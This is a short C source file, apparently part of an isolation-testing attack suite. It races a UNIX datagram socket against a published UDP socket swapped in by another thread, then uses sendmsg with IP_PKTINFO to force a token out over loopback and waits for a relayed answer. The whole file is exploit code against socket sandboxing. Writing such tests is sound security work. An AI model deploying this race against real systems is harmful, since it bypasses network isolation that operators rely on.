/* Sends on a UNIX socket by sendmsg with IP_PKTINFO, has another thread put a published UDP socket in its place meanwhile, and waits for answers to be relayed to that. */
#include "attack.h"

/* Sends the token by the loopback device, whatever the socket is bound to. */
static int by_loopback(int fd) {
    struct iovec data = {(char *)token, strlen(token)};
    union { struct cmsghdr header; char room[CMSG_SPACE(sizeof(struct in6_pktinfo))]; } control = {0};
    struct msghdr message = {
        .msg_name = &to, .msg_namelen = length(&to), .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control,
    };
    if (family() == AF_INET) {
        struct in_pktinfo by = {.ipi_ifindex = 1};
        control.header = (struct cmsghdr){CMSG_LEN(sizeof by), IPPROTO_IP, IP_PKTINFO};
        memcpy(CMSG_DATA(&control.header), &by, sizeof by);
        message.msg_controllen = CMSG_SPACE(sizeof by);
    } else {
        struct in6_pktinfo by = {.ipi6_ifindex = 1};
        control.header = (struct cmsghdr){CMSG_LEN(sizeof by), IPPROTO_IPV6, IPV6_PKTINFO};
        memcpy(CMSG_DATA(&control.header), &by, sizeof by);
        message.msg_controllen = CMSG_SPACE(sizeof by);
    }
    return sendmsg(fd, &message, MSG_DONTWAIT);
}

static char answer[64];

/* Whether the answer has come, by way of whoever passes on what is sent to the port. */
static bool heard(void) {
    ssize_t len = recv(host, answer, sizeof answer - 1, MSG_DONTWAIT);
    if (len > 0) answer[len] = 0;
    return len > 0 && !strncmp(answer, "answer", 6);
}

static void call(int fd) { by_loopback(fd); }
static bool never(void) { return false; }

static void attack(void) {
    int unix_socket = must(socket(AF_UNIX, SOCK_DGRAM, 0), "socket"), fd = published_datagrams();
    if (!race(unix_socket, fd, call, heard)) return;
    token = answer;
    race(unix_socket, fd, call, never);
}
